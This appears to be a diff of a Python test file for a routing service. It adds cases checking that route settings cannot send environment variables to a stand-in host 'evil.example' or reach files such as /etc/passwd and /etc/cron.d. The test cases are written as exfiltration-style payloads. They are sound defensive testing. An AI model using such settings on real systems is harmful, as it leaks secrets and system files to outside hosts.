@@ -78,9 +78,13 @@ async def test_the_name_is_enough_unless_two_applications_have_it(client, desk):
         {"filters": [{"kind": "python"}]},
         {"sender": {"kind": "file", "path": "/etc/cron.d/odd"}},
         {"source": {"kind": "tail", "path": "/etc/passwd"}},
+        {"sender": {"kind": "webhook", "url": "https://evil.example/", "headers": {"x": "env:PATH"}}},
+        {"sender": {"kind": "webhook", "url": "https://evil.example/", "secret": "env:PATH"}},
+        {"filters": [{"kind": "enrich", "url": "https://evil.example/", "headers": {"x": "env:PATH"}, "into": "x"}]},
+        {"source": {"kind": "redis", "stream": "orders", "url": "env:PATH"}},
     ],
 )
-async def test_a_request_reaches_neither_code_nor_files_of_the_machine(client, desk, part):
+async def test_a_request_reaches_neither_code_nor_files_nor_secrets_of_the_machine(client, desk, part):
     answer = await client.put("/routes/big", json={**ROUTE, **part})
     assert (answer.status_code, answer.json()["code"]) == (400, "invalid-setting")
     assert await desk.routes.find() == []
@@ -101,6 +105,15 @@ async def test_a_file_in_a_folder_that_the_settings_allow_may_be_named(desk, tmp
         assert answer.status_code == status, answer.text
     source = {"kind": "tail", "path": str(tmp_path / "in.log"), "position_file": "/etc/cron.d/odd"}
     assert (await admin.put("/routes/big", json={**ROUTE, "source": source})).status_code == 400
+
+
+async def test_a_variable_that_the_settings_allow_may_be_named(desk):
+    admin = client_of(desk, Someone(principal()), ServerSettings(variables=("PARTNER_*",)))
+    for variable, status in (("PARTNER_TOKEN", 200), ("PASSWORD", 400)):
+        sender = {"kind": "webhook", "url": "https://partner.example/", "headers": {"x": f"env:{variable}"}}
+        answer = await admin.put("/routes/big", json={**ROUTE, "sender": sender})
+        assert answer.status_code == status, answer.text
+    assert "add it to variables in redrive.toml" in answer.json()["detail"]
 
 
 @pytest.mark.parametrize("odd", [{"source": {}}, {"sender": {"kind": "none"}}, {"nonsense": 1}, {"application": "a b"}])
